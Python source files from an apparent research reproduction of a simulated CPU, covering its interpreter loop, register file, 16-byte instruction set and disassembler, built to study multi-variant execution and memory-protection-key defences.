        rsp = (state.regs.get("rsp") - WORD_SIZE) & _MASK64
        state.regs.set("rsp", rsp)
        self.space.write_word(rsp, value, state.pkru)

    def _pop(self, state: ExecState) -> int:
        rsp = state.regs.get("rsp")
        value = self.space.read_word(rsp, state.pkru)
        state.regs.set("rsp", (rsp + WORD_SIZE) & _MASK64)
        return value

    def _precision_forced(self) -> bool:
        """True when something observes execution at instruction or
        access granularity — those consumers get the precise path."""
        return (self.force_slow_path or self.trace_hook is not None
                or bool(self.space._observers)
                or bool(self.counter.listeners))

    # -- execution -----------------------------------------------------------

    def run(self, state: ExecState, until_rip: int = HOST_RETURN_ADDRESS,
            max_steps: Optional[int] = None) -> str:
        """Run until ``rip`` equals ``until_rip``, ``HLT``, or ``max_steps``.

        Returns the exit reason: ``"host-return"``, ``"hlt"``, or
        ``"max-steps"``.  Machine faults propagate to the caller — the
        simulated kernel (or the MVX monitor watching a variant) decides
        what a fault means.
        """
        steps = 0
        regs = state.regs
        while True:
            if regs.rip == until_rip:
                return "host-return"
            if max_steps is not None and steps >= max_steps:
                return "max-steps"
            if self._precision_forced():
                self.step(state)
                steps += 1
            else:
                steps = self._run_fast(state, until_rip, max_steps, steps)

    def step(self, state: ExecState) -> None:
        """Execute exactly one instruction (the precise path)."""
        addr = state.regs.rip
        instr = self._fetch(state)
        if self.trace_hook is not None:
            try:
                self.trace_hook(state, addr, instr)
            except Exception as exc:
                self.trace_hook_error = exc
                self.trace_hook = None
        self.counter.charge(self.costs.instruction_ns, "cpu")
        self.instructions_retired += 1
        self.precise_insns += 1
        rip_next = addr + INSTR_SIZE
        state.regs.rip = rip_next
        handler = _DISPATCH[instr.op]
        if handler is None:  # pragma: no cover - decode guarantees coverage
            raise InvalidInstruction(f"unhandled opcode {instr.op}", addr)
        handler(self, state, instr, addr, rip_next)

    def _run_fast(self, state: ExecState, until_rip: int,
                  max_steps: Optional[int], steps: int) -> int:
        """The fast interpreter: decoded-page cache, inlined hot opcodes,
        batched virtual-time charging.

        Executes until an exit condition (``until_rip``/``max_steps``) is
        hit, or until a host callback (``SYSCALL``/``HLCALL``) may have
        attached a precision consumer — either way it returns the updated
        step count and :meth:`run` re-evaluates.  Pending charges are
        flushed at every block boundary and, via ``finally``, before any
        fault propagates, so virtual-cycle totals and
        ``instructions_retired`` are bit-identical to the precise path at
        every observable point (host callbacks, faults, run exit).
        """
        space = self.space
        regs = state.regs
        regs_d = regs._regs
        counter = self.counter
        cost_ns = self.costs.instruction_ns
        read_word = space.read_word
        write_word = space.write_word
        space_read = space.read
        space_write = space.write
        fetch_check = space.fetch_check
        M = _MASK64
        # the JIT tier only engages on unbounded runs: with max_steps the
        # batch size of a translation could overshoot the step budget
        jit = self.jit if max_steps is None else None
        pending = 0
        cur_idx = -1
        cur_epoch = -1
        cur_page = None
        try:
            while True:
                rip = regs.rip
                if rip == until_rip:
                    return steps
                if max_steps is not None and steps >= max_steps:
                    return steps

                # -- fetch through the per-page decoded cache
                idx = rip >> 12
                if idx != cur_idx or space.mapping_epoch != cur_epoch:
                    cur_page = fetch_check(rip)
                    cur_idx = idx
                    cur_epoch = space.mapping_epoch
                cache = cur_page.decode_cache
                if cache is None:
                    cache = cur_page.decode_cache = {}
                offset = rip & 0xFFF
                entry = cache.get(offset)
                if entry is None:
                    entry = self._decode_cached(cur_page, offset, rip)
                op, r1, r2, imm, instr = entry

                steps += 1
                pending += 1
                rip_next = rip + INSTR_SIZE
                regs.rip = rip_next

                # -- inlined hot opcodes (numeric opcode constants; see
                #    Op in isa.py).  Semantics mirror the precise
                #    handlers exactly, including operation order around
                #    possible faults.
                if op == 0x13:            # LOAD
                    regs_d[r1] = read_word((regs_d[r2] + imm) & M,
                                           state.pkru)
                elif op == 0x14:          # STORE
                    write_word((regs_d[r1] + imm) & M, regs_d[r2],
                               state.pkru)
                elif op == 0x10:          # MOV_RR
                    regs_d[r1] = regs_d[r2]
                elif op == 0x11:          # MOV_RI
                    regs_d[r1] = imm & M
                elif op == 0x21:          # ADD_RI
                    regs_d[r1] = (regs_d[r1] + imm) & M
                elif op == 0x20:          # ADD_RR
                    regs_d[r1] = (regs_d[r1] + regs_d[r2]) & M
                elif op == 0x31:          # CMP_RI
                    left = regs_d[r1]
                    diff = (left - imm) & M
                    if diff == 0:
                        flags = 1
                    elif diff >> 63:
                        flags = 2
                    else:
                        flags = 0
                    if left < (imm & M):
                        flags |= 4
                    regs.flags = flags
                elif op == 0x30:          # CMP_RR
                    left = regs_d[r1]
                    right = regs_d[r2]
                    diff = (left - right) & M
                    if diff == 0:
                        flags = 1
                    elif diff >> 63:
                        flags = 2
                    else:
                        flags = 0
                    if left < right:
                        flags |= 4
                    regs.flags = flags
                elif op == 0x43:          # JE
                    if regs.flags & 1:
                        regs.rip = (rip_next + imm) & M
                        if imm < 0 and jit is not None:
                            steps += jit.maybe_enter(state, until_rip)
                elif op == 0x44:          # JNE
                    if not regs.flags & 1:
                        regs.rip = (rip_next + imm) & M
                        if imm < 0 and jit is not None:
                            steps += jit.maybe_enter(state, until_rip)
                elif op == 0x40:          # JMP
                    regs.rip = (rip_next + imm) & M
                    if imm < 0 and jit is not None:
                        steps += jit.maybe_enter(state, until_rip)
                elif op == 0x45:          # JL
                    if regs.flags & 2:
                        regs.rip = (rip_next + imm) & M
                        if imm < 0 and jit is not None:
                            steps += jit.maybe_enter(state, until_rip)
                elif op == 0x46:          # JGE
                    if not regs.flags & 2:
                        regs.rip = (rip_next + imm) & M
                        if imm < 0 and jit is not None:
                            steps += jit.maybe_enter(state, until_rip)
                elif op == 0x47:          # JB
                    if regs.flags & 4:
                        regs.rip = (rip_next + imm) & M
                        if imm < 0 and jit is not None:
                            steps += jit.maybe_enter(state, until_rip)
                elif op == 0x48:          # JAE
                    if not regs.flags & 4:
                        regs.rip = (rip_next + imm) & M
                        if imm < 0 and jit is not None:
                            steps += jit.maybe_enter(state, until_rip)
                elif op == 0x50:          # CALL
                    rsp = (regs_d["rsp"] - 8) & M
                    regs_d["rsp"] = rsp
                    write_word(rsp, rip_next, state.pkru)
                    regs.rip = (rip_next + imm) & M
                elif op == 0x51:          # CALL_R
                    rsp = (regs_d["rsp"] - 8) & M
                    regs_d["rsp"] = rsp
                    write_word(rsp, rip_next, state.pkru)
                    regs.rip = regs_d[r1]
                elif op == 0x52:          # RET
                    rsp = regs_d["rsp"]
                    value = read_word(rsp, state.pkru)
                    regs_d["rsp"] = (rsp + 8) & M
                    regs.rip = value
                elif op == 0x53:          # PUSH_R
                    value = regs_d[r1]    # before the move, like _op_push_r
                    rsp = (regs_d["rsp"] - 8) & M
                    regs_d["rsp"] = rsp
                    write_word(rsp, value, state.pkru)
                elif op == 0x54:          # POP_R
                    rsp = regs_d["rsp"]
                    value = read_word(rsp, state.pkru)
                    regs_d["rsp"] = (rsp + 8) & M
                    regs_d[r1] = value
                elif op == 0x55:          # PUSH_I
                    rsp = (regs_d["rsp"] - 8) & M
                    regs_d["rsp"] = rsp
                    write_word(rsp, imm & M, state.pkru)
                elif op == 0x12:          # LEA
                    regs_d[r1] = (rip_next + imm) & M
                elif op == 0x22:          # SUB_RR
                    regs_d[r1] = (regs_d[r1] - regs_d[r2]) & M
                elif op == 0x23:          # SUB_RI
                    regs_d[r1] = (regs_d[r1] - imm) & M
                elif op == 0x24:          # AND_RR
                    regs_d[r1] = regs_d[r1] & regs_d[r2]
                elif op == 0x25:          # AND_RI
                    regs_d[r1] = (regs_d[r1] & imm) & M
                elif op == 0x26:          # OR_RR
                    regs_d[r1] = regs_d[r1] | regs_d[r2]
                elif op == 0x27:          # OR_RI
                    regs_d[r1] = (regs_d[r1] | imm) & M
                elif op == 0x28:          # XOR_RR
                    regs_d[r1] = regs_d[r1] ^ regs_d[r2]
                elif op == 0x29:          # XOR_RI
                    regs_d[r1] = (regs_d[r1] ^ imm) & M
                elif op == 0x2A:          # SHL_RI
                    regs_d[r1] = (regs_d[r1] << (imm & 63)) & M
                elif op == 0x2B:          # SHR_RI
                    regs_d[r1] = regs_d[r1] >> (imm & 63)
                elif op == 0x2C:          # MUL_RR
                    regs_d[r1] = (regs_d[r1] * regs_d[r2]) & M
                elif op == 0x2D:          # NOT_R
                    regs_d[r1] = ~regs_d[r1] & M
                elif op == 0x32:          # TEST_RR
                    masked = regs_d[r1] & regs_d[r2]
                    if masked == 0:
                        regs.flags = 1
                    elif masked >> 63:
                        regs.flags = 2
                    else:
                        regs.flags = 0
                elif op == 0x15:          # LOAD8
                    regs_d[r1] = space_read((regs_d[r2] + imm) & M, 1,
                                            state.pkru)[0]
                elif op == 0x16:          # STORE8
                    space_write((regs_d[r1] + imm) & M,
                                bytes([regs_d[r2] & 0xFF]), state.pkru)
                elif op == 0x42:          # JMP_M
                    slot = (rip_next + imm) & M
                    regs.rip = read_word(slot, state.pkru)
                elif op == 0x41:          # JMP_R
                    regs.rip = regs_d[r1]
                elif op == 0x01 or op == 0x71:   # NOP / BRK
                    pass
                elif op == 0x60:          # WRPKRU
                    if regs_d["rcx"] or regs_d["rdx"]:
                        raise InvalidInstruction(
                            "wrpkru with non-zero rcx/rdx", rip)
                    state.pkru = regs_d["rax"] & PKRU_MASK
                elif op == 0x61:          # RDPKRU
                    regs_d["rax"] = state.pkru
                elif op == 0x02:          # HLT
                    raise CpuExit("hlt")
                elif op == 0x62:          # SYSCALL — block boundary
                    if pending:
                        counter.charge(pending * cost_ns, "cpu")
                        self.instructions_retired += pending
                        self.fast_insns += pending
                        pending = 0
                    if self.syscall_handler is None:
                        raise MachineFault(
                            "SYSCALL with no kernel attached", rip)
                    self.syscall_handler(state)
                    if self._precision_forced():
                        return steps
                elif op == 0x70:          # HLCALL — block boundary
                    if pending:
                        counter.charge(pending * cost_ns, "cpu")
                        self.instructions_retired += pending
                        self.fast_insns += pending
                        pending = 0
                    if self.hl_dispatch is None:
                        raise MachineFault(
                            "HLCALL with no dispatcher", rip)
                    self.hl_dispatch(state, imm)
                    if self._precision_forced():
                        return steps
                else:  # pragma: no cover - decode guarantees coverage
                    raise InvalidInstruction(
                        f"unhandled opcode {instr.op}", rip)
        finally:
            if pending:
                counter.charge(pending * cost_ns, "cpu")
                self.instructions_retired += pending
                self.fast_insns += pending
