"""The interpreter core of the simulated machine.

The CPU executes one *hart* at a time against an :class:`AddressSpace`.
The executing thread's architectural state (registers + the thread-private
PKRU) is handed in per run, mirroring the fact that PKRU is per-thread on
real hardware.

Two escape hatches connect the machine to the rest of the system:

* ``syscall_handler(state)`` — invoked by the ``SYSCALL`` instruction; the
  simulated kernel lives behind it.
* ``hl_dispatch(state, index)`` — invoked by ``HLCALL``; high-level guest
  functions (DESIGN.md's hybrid guest model) live behind it.

Every instruction charges :attr:`CostModel.instruction_ns` of virtual time.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from repro.errors import InvalidInstruction, MachineFault
from repro.machine.costs import CostModel, CycleCounter, DEFAULT_COSTS
from repro.machine.isa import INSTR_SIZE, Instruction, Op
from repro.machine.memory import AddressSpace, WORD_SIZE
from repro.machine.mpk import PKRU_MASK
from repro.machine.registers import RegisterFile

_MASK64 = (1 << 64) - 1

#: Synthetic return address meaning "return control to the host caller".
#: It sits in non-canonical space so it can never collide with a mapping.
HOST_RETURN_ADDRESS = 0x0FFF_DEAD_0000


@dataclass
class ExecState:
    """Architectural state of one simulated thread."""

    regs: RegisterFile
    pkru: int = 0

    def clone(self) -> "ExecState":
        state = ExecState(RegisterFile(), self.pkru)
        state.regs.load_snapshot(self.regs.snapshot())
        return state


class CpuExit(Exception):
    """Raised (internally) to stop the run loop; carries the reason."""

    def __init__(self, reason: str):
        super().__init__(reason)
        self.reason = reason


class CPU:
    """Fetch/decode/execute loop over the simulated ISA."""

    def __init__(self, space: AddressSpace,
                 counter: Optional[CycleCounter] = None,
                 costs: CostModel = DEFAULT_COSTS,
                 syscall_handler: Optional[Callable] = None,
                 hl_dispatch: Optional[Callable] = None):
        self.space = space
        self.counter = counter or CycleCounter()
        self.costs = costs
        self.syscall_handler = syscall_handler
        self.hl_dispatch = hl_dispatch
        #: optional per-instruction hook: (state, addr, instruction).
        #: A hook that raises is detached (the error is kept in
        #: :attr:`trace_hook_error`) — observation must never perturb the
        #: observed execution.
        self.trace_hook: Optional[Callable] = None
        self.trace_hook_error: Optional[BaseException] = None
        self.instructions_retired = 0

    # -- helpers -------------------------------------------------------------

    def _fetch(self, state: ExecState) -> Instruction:
        addr = state.regs.rip
        self.space.fetch_check(addr)
        page = self.space.page_at(addr)
        offset = addr % 4096
        if offset + INSTR_SIZE <= 4096:
            raw = bytes(page.data[offset:offset + INSTR_SIZE])
        else:
            head = bytes(page.data[offset:])
            next_page = self.space.fetch_check(addr + (4096 - offset))
            raw = head + bytes(next_page.data[:INSTR_SIZE - len(head)])
        try:
            return Instruction.decode(raw)
        except InvalidInstruction as exc:
            exc.address = addr
            raise

    def _push(self, state: ExecState, value: int) -> None:
        rsp = (state.regs.get("rsp") - WORD_SIZE) & _MASK64
        state.regs.set("rsp", rsp)
        self.space.write_word(rsp, value, state.pkru)

    def _pop(self, state: ExecState) -> int:
        rsp = state.regs.get("rsp")
        value = self.space.read_word(rsp, state.pkru)
        state.regs.set("rsp", (rsp + WORD_SIZE) & _MASK64)
        return value

    # -- execution -----------------------------------------------------------

    def run(self, state: ExecState, until_rip: int = HOST_RETURN_ADDRESS,
            max_steps: Optional[int] = None) -> str:
        """Run until ``rip`` equals ``until_rip``, ``HLT``, or ``max_steps``.

        Returns the exit reason: ``"host-return"``, ``"hlt"``, or
        ``"max-steps"``.  Machine faults propagate to the caller — the
        simulated kernel (or the MVX monitor watching a variant) decides
        what a fault means.
        """
        steps = 0
        while True:
            if state.regs.rip == until_rip:
                return "host-return"
            if max_steps is not None and steps >= max_steps:
                return "max-steps"
            self.step(state)
            steps += 1

    def step(self, state: ExecState) -> None:
        """Execute exactly one instruction."""
        addr = state.regs.rip
        instr = self._fetch(state)
        if self.trace_hook is not None:
            try:
                self.trace_hook(state, addr, instr)
            except Exception as exc:
                self.trace_hook_error = exc
                self.trace_hook = None
        self.counter.charge(self.costs.instruction_ns, "cpu")
        self.instructions_retired += 1
        regs = state.regs
        rip_next = addr + INSTR_SIZE
        regs.rip = rip_next
        op = instr.op

        if op == Op.NOP or op == Op.BRK:
            return
        if op == Op.HLT:
            raise CpuExit("hlt")

        if op == Op.MOV_RR:
            regs.set(instr.reg1, regs.get(instr.reg2))
        elif op == Op.MOV_RI:
            regs.set(instr.reg1, instr.imm)
        elif op == Op.LEA:
            regs.set(instr.reg1, rip_next + instr.imm)
        elif op == Op.LOAD:
            base = regs.get(instr.reg2)
            regs.set(instr.reg1,
                     self.space.read_word((base + instr.imm) & _MASK64,
                                          state.pkru))
        elif op == Op.STORE:
            base = regs.get(instr.reg1)
            self.space.write_word((base + instr.imm) & _MASK64,
                                  regs.get(instr.reg2), state.pkru)
        elif op == Op.LOAD8:
            base = regs.get(instr.reg2)
            raw = self.space.read((base + instr.imm) & _MASK64, 1,
                                  state.pkru)
            regs.set(instr.reg1, raw[0])
        elif op == Op.STORE8:
            base = regs.get(instr.reg1)
            self.space.write((base + instr.imm) & _MASK64,
                             bytes([regs.get(instr.reg2) & 0xFF]),
                             state.pkru)

        elif op == Op.ADD_RR:
            regs.set(instr.reg1, regs.get(instr.reg1) + regs.get(instr.reg2))
        elif op == Op.ADD_RI:
            regs.set(instr.reg1, regs.get(instr.reg1) + instr.imm)
        elif op == Op.SUB_RR:
            regs.set(instr.reg1, regs.get(instr.reg1) - regs.get(instr.reg2))
        elif op == Op.SUB_RI:
            regs.set(instr.reg1, regs.get(instr.reg1) - instr.imm)
        elif op == Op.AND_RR:
            regs.set(instr.reg1, regs.get(instr.reg1) & regs.get(instr.reg2))
        elif op == Op.AND_RI:
            regs.set(instr.reg1, regs.get(instr.reg1) & instr.imm)
        elif op == Op.OR_RR:
            regs.set(instr.reg1, regs.get(instr.reg1) | regs.get(instr.reg2))
        elif op == Op.OR_RI:
            regs.set(instr.reg1, regs.get(instr.reg1) | instr.imm)
        elif op == Op.XOR_RR:
            regs.set(instr.reg1, regs.get(instr.reg1) ^ regs.get(instr.reg2))
        elif op == Op.XOR_RI:
            regs.set(instr.reg1, regs.get(instr.reg1) ^ instr.imm)
        elif op == Op.SHL_RI:
            regs.set(instr.reg1, regs.get(instr.reg1) << (instr.imm & 63))
        elif op == Op.SHR_RI:
            regs.set(instr.reg1, regs.get(instr.reg1) >> (instr.imm & 63))
        elif op == Op.MUL_RR:
            regs.set(instr.reg1, regs.get(instr.reg1) * regs.get(instr.reg2))
        elif op == Op.NOT_R:
            regs.set(instr.reg1, ~regs.get(instr.reg1))

        elif op == Op.CMP_RR:
            regs.set_compare_flags(regs.get(instr.reg1),
                                   regs.get(instr.reg2))
        elif op == Op.CMP_RI:
            regs.set_compare_flags(regs.get(instr.reg1), instr.imm)
        elif op == Op.TEST_RR:
            masked = regs.get(instr.reg1) & regs.get(instr.reg2)
            regs.set_compare_flags(masked, 0)

        elif op == Op.JMP:
            regs.rip = (rip_next + instr.imm) & _MASK64
        elif op == Op.JMP_R:
            regs.rip = regs.get(instr.reg1)
        elif op == Op.JMP_M:
            slot = (rip_next + instr.imm) & _MASK64
            regs.rip = self.space.read_word(slot, state.pkru)
        elif op == Op.JE:
            if regs.zf:
                regs.rip = (rip_next + instr.imm) & _MASK64
        elif op == Op.JNE:
            if not regs.zf:
                regs.rip = (rip_next + instr.imm) & _MASK64
        elif op == Op.JL:
            if regs.sf:
                regs.rip = (rip_next + instr.imm) & _MASK64
        elif op == Op.JGE:
            if not regs.sf:
                regs.rip = (rip_next + instr.imm) & _MASK64
        elif op == Op.JB:
            if regs.cf:
                regs.rip = (rip_next + instr.imm) & _MASK64
        elif op == Op.JAE:
            if not regs.cf:
                regs.rip = (rip_next + instr.imm) & _MASK64

        elif op == Op.CALL:
            self._push(state, rip_next)
            regs.rip = (rip_next + instr.imm) & _MASK64
        elif op == Op.CALL_R:
            self._push(state, rip_next)
            regs.rip = regs.get(instr.reg1)
        elif op == Op.RET:
            regs.rip = self._pop(state)
        elif op == Op.PUSH_R:
            self._push(state, regs.get(instr.reg1))
        elif op == Op.POP_R:
            regs.set(instr.reg1, self._pop(state))
        elif op == Op.PUSH_I:
            self._push(state, instr.imm & _MASK64)

        elif op == Op.WRPKRU:
            # Hardware requires %ecx == %edx == 0 or it #GPs; keeping the
            # check makes accidental wrpkru gadgets harder, as on Skylake.
            if regs.get("rcx") or regs.get("rdx"):
                raise InvalidInstruction(
                    "wrpkru with non-zero rcx/rdx", addr)
            state.pkru = regs.get("rax") & PKRU_MASK
        elif op == Op.RDPKRU:
            regs.set("rax", state.pkru)
        elif op == Op.SYSCALL:
            if self.syscall_handler is None:
                raise MachineFault("SYSCALL with no kernel attached", addr)
            self.syscall_handler(state)
        elif op == Op.HLCALL:
            if self.hl_dispatch is None:
                raise MachineFault("HLCALL with no dispatcher", addr)
            self.hl_dispatch(state, instr.imm)
        else:  # pragma: no cover - decode guarantees coverage
            raise InvalidInstruction(f"unhandled opcode {op}", addr)
