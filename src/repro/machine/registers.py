"""General-purpose register file for the simulated CPU.

The register set mirrors x86-64's sixteen GPRs plus ``rip`` and a tiny
flags word, because the paper's mechanisms talk about concrete registers:
the SysV calling convention passes arguments 1-6 in ``rdi, rsi, rdx, rcx,
r8, r9``; variadic calls carry a count in ``rax``; the sMVX trampoline must
preserve ``rbx`` across its ``callq *%rbx`` (paper §3.4).
"""

from __future__ import annotations

from typing import Dict, Iterable

GP_REGISTERS = (
    "rax", "rbx", "rcx", "rdx", "rsi", "rdi", "rbp", "rsp",
    "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15",
)

#: SysV AMD64 integer argument registers, in order.
ARG_REGISTERS = ("rdi", "rsi", "rdx", "rcx", "r8", "r9")

#: Registers a callee must preserve (SysV AMD64 ABI).
CALLEE_SAVED = ("rbx", "rbp", "r12", "r13", "r14", "r15")

FLAG_ZF = 1 << 0
FLAG_SF = 1 << 1
FLAG_CF = 1 << 2

_MASK64 = (1 << 64) - 1


class RegisterFile:
    """Sixteen 64-bit GPRs, an instruction pointer, and flags."""

    __slots__ = ("_regs", "rip", "flags")

    def __init__(self) -> None:
        self._regs: Dict[str, int] = {name: 0 for name in GP_REGISTERS}
        self.rip = 0
        self.flags = 0

    def get(self, name: str) -> int:
        try:
            return self._regs[name]
        except KeyError:
            raise KeyError(f"unknown register {name!r}") from None

    def set(self, name: str, value: int) -> None:
        if name not in self._regs:
            raise KeyError(f"unknown register {name!r}")
        self._regs[name] = value & _MASK64

    def get_signed(self, name: str) -> int:
        value = self.get(name)
        return value - (1 << 64) if value >> 63 else value

    def snapshot(self) -> Dict[str, int]:
        state = dict(self._regs)
        state["rip"] = self.rip
        state["flags"] = self.flags
        return state

    def load_snapshot(self, state: Dict[str, int]) -> None:
        for name in GP_REGISTERS:
            self._regs[name] = state[name] & _MASK64
        self.rip = state["rip"]
        self.flags = state["flags"]

    def set_args(self, args: Iterable[int]) -> None:
        """Place integer arguments per the SysV convention (first six)."""
        args = list(args)
        if len(args) > len(ARG_REGISTERS):
            raise ValueError(
                "more than six register arguments; the rest go on the stack")
        for name, value in zip(ARG_REGISTERS, args):
            self.set(name, value)

    # flag helpers -----------------------------------------------------------

    def set_compare_flags(self, left: int, right: int) -> None:
        """Set ZF/SF/CF as a 64-bit ``cmp left, right`` would."""
        diff = (left - right) & _MASK64
        self.flags = 0
        if diff == 0:
            self.flags |= FLAG_ZF
        if diff >> 63:
            self.flags |= FLAG_SF
        if (left & _MASK64) < (right & _MASK64):
            self.flags |= FLAG_CF

    @property
    def zf(self) -> bool:
        return bool(self.flags & FLAG_ZF)

    @property
    def sf(self) -> bool:
        return bool(self.flags & FLAG_SF)

    @property
    def cf(self) -> bool:
        return bool(self.flags & FLAG_CF)
