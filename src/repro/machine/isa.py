"""Instruction set of the simulated machine.

A deliberately small, fixed-width (16-byte) load/store ISA with x86-64
flavoured register names and calling convention.  Fixed-width encoding
means every instruction boundary is knowable, which keeps the disassembler
and the ROP-gadget scanner honest (gadgets are instruction-aligned suffixes
ending in ``RET``; DESIGN.md notes this divergence from variable-width
x86).

Encoding (little-endian), 16 bytes per instruction::

    byte  0      opcode
    byte  1      reg1 index (0xFF if unused)
    byte  2      reg2 index (0xFF if unused)
    bytes 3-10   64-bit signed immediate / displacement
    bytes 11-15  zero padding (reserved)

Control-flow immediates are *relative* to the address of the next
instruction, so assembled code is position independent (PIE) exactly the
way the paper relies on for ASLR-style relocation of the follower variant.
"""

from __future__ import annotations

import enum
import struct
from dataclasses import dataclass
from typing import Optional

from repro.errors import InvalidInstruction
from repro.machine.registers import GP_REGISTERS

INSTR_SIZE = 16

_ENC = struct.Struct("<BBBq5x")

_REG_INDEX = {name: i for i, name in enumerate(GP_REGISTERS)}
_NO_REG = 0xFF


class Op(enum.IntEnum):
    """Opcodes.  Values are part of the encoded format; do not renumber."""

    NOP = 0x01
    HLT = 0x02

    MOV_RR = 0x10          # reg1 <- reg2
    MOV_RI = 0x11          # reg1 <- imm
    LEA = 0x12             # reg1 <- rip_next + imm   (RIP-relative address)
    LOAD = 0x13            # reg1 <- mem64[reg2 + imm]
    STORE = 0x14           # mem64[reg1 + imm] <- reg2
    LOAD8 = 0x15           # reg1 <- zero-extended mem8[reg2 + imm]
    STORE8 = 0x16          # mem8[reg1 + imm] <- low byte of reg2

    ADD_RR = 0x20
    ADD_RI = 0x21
    SUB_RR = 0x22
    SUB_RI = 0x23
    AND_RR = 0x24
    AND_RI = 0x25
    OR_RR = 0x26
    OR_RI = 0x27
    XOR_RR = 0x28
    XOR_RI = 0x29
    SHL_RI = 0x2A
    SHR_RI = 0x2B
    MUL_RR = 0x2C
    NOT_R = 0x2D

    CMP_RR = 0x30
    CMP_RI = 0x31
    TEST_RR = 0x32

    JMP = 0x40             # rip <- rip_next + imm
    JMP_R = 0x41           # rip <- reg1            (indirect jump)
    JMP_M = 0x42           # rip <- mem64[rip_next + imm]  (jump via GOT)
    JE = 0x43
    JNE = 0x44
    JL = 0x45              # signed less (SF set)
    JGE = 0x46
    JB = 0x47              # unsigned below (CF set)
    JAE = 0x48

    CALL = 0x50            # push return addr; rip <- rip_next + imm
    CALL_R = 0x51          # push return addr; rip <- reg1  (callq *%reg)
    RET = 0x52             # rip <- pop()
    PUSH_R = 0x53
    POP_R = 0x54
    PUSH_I = 0x55

    WRPKRU = 0x60          # PKRU <- eax (rax low 32 bits); requires rcx=rdx=0
    RDPKRU = 0x61          # rax <- PKRU
    SYSCALL = 0x62         # kernel trap; number in rax, args rdi..r9

    HLCALL = 0x70          # invoke high-level guest function #imm
    BRK = 0x71             # debugger/trace breakpoint (no-op with hook)


#: Opcodes that terminate a basic block; used by the gadget scanner.
CONTROL_FLOW_OPS = frozenset({
    Op.JMP, Op.JMP_R, Op.JMP_M, Op.JE, Op.JNE, Op.JL, Op.JGE, Op.JB,
    Op.JAE, Op.CALL, Op.CALL_R, Op.RET, Op.HLT, Op.SYSCALL,
})

_VALID_OPS = {int(op) for op in Op}

#: opcode byte -> Op member; a plain dict lookup is several times faster
#: than ``Op(opcode)`` (which routes through EnumMeta.__call__) and
#: decode is on the interpreter's fetch path.
_OP_BY_CODE = {int(op): op for op in Op}


@dataclass(frozen=True)
class Instruction:
    """One decoded instruction."""

    op: Op
    reg1: Optional[str] = None
    reg2: Optional[str] = None
    imm: int = 0

    def encode(self) -> bytes:
        r1 = _REG_INDEX[self.reg1] if self.reg1 is not None else _NO_REG
        r2 = _REG_INDEX[self.reg2] if self.reg2 is not None else _NO_REG
        return _ENC.pack(int(self.op), r1, r2, self.imm)

    @staticmethod
    def decode(raw: bytes) -> "Instruction":
        if len(raw) != INSTR_SIZE:
            raise InvalidInstruction(
                f"instruction must be {INSTR_SIZE} bytes, got {len(raw)}")
        opcode, r1, r2, imm = _ENC.unpack(raw)
        op = _OP_BY_CODE.get(opcode)
        if op is None:
            raise InvalidInstruction(f"invalid opcode {opcode:#x}")
        for index in (r1, r2):
            if index != _NO_REG and index >= len(GP_REGISTERS):
                raise InvalidInstruction(f"bad register index {index}")
        reg1 = GP_REGISTERS[r1] if r1 != _NO_REG else None
        reg2 = GP_REGISTERS[r2] if r2 != _NO_REG else None
        return Instruction(op, reg1, reg2, imm)

    def text(self) -> str:
        """AT&T-ish rendering used by the disassembler and flame graphs."""
        name = self.op.name.lower()
        parts = []
        if self.reg1 is not None:
            parts.append(f"%{self.reg1}")
        if self.reg2 is not None:
            parts.append(f"%{self.reg2}")
        if self.op in (Op.MOV_RI, Op.ADD_RI, Op.SUB_RI, Op.AND_RI, Op.OR_RI,
                       Op.XOR_RI, Op.SHL_RI, Op.SHR_RI, Op.CMP_RI, Op.PUSH_I,
                       Op.HLCALL, Op.LEA, Op.LOAD, Op.STORE, Op.LOAD8,
                       Op.STORE8, Op.JMP, Op.JE, Op.JNE, Op.JL, Op.JGE,
                       Op.JB, Op.JAE, Op.CALL, Op.JMP_M):
            parts.append(f"${self.imm:#x}" if self.imm >= 0
                         else f"$-{-self.imm:#x}")
        return f"{name} {', '.join(parts)}".strip()

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<Instruction {self.text()}>"


def is_valid_opcode(byte: int) -> bool:
    return byte in _VALID_OPS
