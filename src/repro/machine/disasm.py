"""Disassembler over mapped executable pages.

Used by the ROP-gadget scanner (Ropper/ROPGadget analogue) and by
debugging/flame-graph tooling.  Because the ISA is fixed width, decoding is
exact: a byte range either decodes into instructions or it does not.
"""

from __future__ import annotations

from typing import Iterator, List, Optional, Tuple

from repro.errors import InvalidInstruction
from repro.machine.isa import INSTR_SIZE, Instruction
from repro.machine.memory import AddressSpace, PAGE_SIZE, PROT_EXEC


def disassemble_bytes(raw: bytes, base: int = 0,
                      skip_invalid: bool = False
                      ) -> List[Tuple[int, Instruction]]:
    """Decode a byte string into ``(address, instruction)`` pairs.

    Two contracts, chosen by ``skip_invalid``:

    * **stop-at-padding** (default): decoding stops at the first
      undecodable slot.  This is the right contract for linear sweeps of
      a single function body, where the first invalid slot means "end of
      code, start of non-instruction bytes" — anything after it is not
      part of the function and must not be attributed to it.
    * **windowed** (``skip_invalid=True``): undecodable slots are skipped
      and decoding resumes at the next ``INSTR_SIZE`` boundary (the ISA
      is fixed width, so slot boundaries are unambiguous).  CFG recovery
      and the gadget scanner use this mode: both need every decodable
      slot in a region, with holes simply absent from the result.
      Callers that care *where* the holes are can diff the returned
      addresses against the full slot range.

    A trailing partial slot (``len(raw)`` not a multiple of
    ``INSTR_SIZE``) is never decoded in either mode.
    """
    out: List[Tuple[int, Instruction]] = []
    for offset in range(0, len(raw) - len(raw) % INSTR_SIZE, INSTR_SIZE):
        try:
            instr = Instruction.decode(raw[offset:offset + INSTR_SIZE])
        except InvalidInstruction:
            if skip_invalid:
                continue
            break
        out.append((base + offset, instr))
    return out


def try_decode_at(space: AddressSpace, addr: int) -> Optional[Instruction]:
    """Decode one instruction at ``addr`` if the page is executable."""
    page = space.page_at(addr)
    if page is None or not page.prot & PROT_EXEC:
        return None
    offset = addr % PAGE_SIZE
    if offset + INSTR_SIZE <= PAGE_SIZE:
        raw = bytes(page.data[offset:offset + INSTR_SIZE])
    else:
        nxt = space.page_at(addr + (PAGE_SIZE - offset))
        if nxt is None or not nxt.prot & PROT_EXEC:
            return None
        raw = bytes(page.data[offset:]) + bytes(
            nxt.data[:INSTR_SIZE - (PAGE_SIZE - offset)])
    try:
        return Instruction.decode(raw)
    except InvalidInstruction:
        return None


def executable_words(space: AddressSpace) -> Iterator[Tuple[int, Instruction]]:
    """Yield every decodable instruction slot in executable pages.

